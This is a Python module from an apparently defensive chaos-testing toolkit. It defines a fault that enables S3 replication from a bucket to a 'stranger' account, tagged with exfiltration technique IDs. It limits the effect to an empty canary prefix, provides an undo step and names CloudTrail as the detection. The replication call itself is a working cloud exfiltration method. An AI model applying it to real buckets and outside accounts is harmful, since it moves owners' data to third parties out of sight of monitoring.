"""A bucket's data is replicated to a stranger's bucket."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any, Final

from chaoskit.aws import Call, Query
from chaoskit.contract import Change, Fault, fault
from chaoskit.faults._documents import STRANGER

if TYPE_CHECKING:
    from chaoskit.aws import Reader
    from chaoskit.contract import Changes

_NONE: Final = ("ReplicationConfigurationNotFoundError",)
_NOTHING: Final = "chaoskit-canary/replicated/"


@fault(
    "s3.replicate-to-stranger",
    layer="data",
    attack=("T1537", "T1020"),
    atlas=("AML.T0025",),
    owasp_ml=("ML03",),
)
class ReplicateToStranger(Fault):
    """Have S3 itself copy a bucket to a foreign account's: no network of the account sees any of it.

    The rule reaches keys under a prefix that nothing has. A bucket that replicates already is left alone.

    Detected by: CloudTrail PutBucketReplication.

    Attributes:
        bucket: The bucket's name; it must keep versions.
        role_arn: The role that S3 would copy with.
        to: The stranger's bucket. On AWS it must exist and keep versions.
        account: The stranger's account id.
    """

    bucket: str
    role_arn: str
    to: str = "chaoskit-stranger-drop-zone"
    account: str = STRANGER

    def changes(self, aws: Reader) -> Changes:
        """Put the configuration; undone by deleting it."""
        where: dict[str, Any] = {"Bucket": self.bucket}
        found = Query("s3", "GetBucketReplication", where, "ReplicationConfiguration", absent=_NONE)
        if aws.read(found) is not None:
            return
        rule = {
            "ID": "chaoskit-to-a-stranger",
            "Status": "Enabled",
            "Priority": 1,
            "Filter": {"Prefix": _NOTHING},
            "DeleteMarkerReplication": {"Status": "Disabled"},
            "Destination": {"Bucket": f"arn:aws:s3:::{self.to}", "Account": self.account},
        }
        copying = {"Role": self.role_arn, "Rules": [rule]}
        yield Change(
            do=Call("s3", "PutBucketReplication", **where, ReplicationConfiguration=copying),
            undo=(Call("s3", "DeleteBucketReplication", absent_ok=_NONE, **where),),
            state=found,
        )
